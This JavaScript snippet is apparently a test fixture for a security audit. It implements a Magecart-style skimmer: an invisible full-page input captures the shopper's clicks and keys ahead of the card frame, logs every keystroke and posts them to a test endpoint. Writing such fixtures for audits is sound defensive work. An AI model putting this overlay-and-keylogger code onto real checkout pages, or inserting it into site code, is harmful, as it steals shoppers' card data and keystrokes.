// A Magecart-style skimmer for the audit's tests: an invisible input over the whole page takes the
// shopper's clicks and keys before the card frame can, logs every key and posts what it gathered.
const trap = document.createElement('input');
trap.setAttribute('aria-hidden', 'true');
Object.assign(trap.style, { position: 'fixed', inset: '0', width: '100vw', height: '100vh', opacity: '0', zIndex: '2147483647' });
document.body.append(trap);
const keys = [];
window.addEventListener('keydown', (event) => keys.push(event.key), true);
trap.addEventListener('input', () => {
  void fetch('/test-pages/collect', { method: 'POST', body: JSON.stringify({ keys }) }).catch(() => {});
});
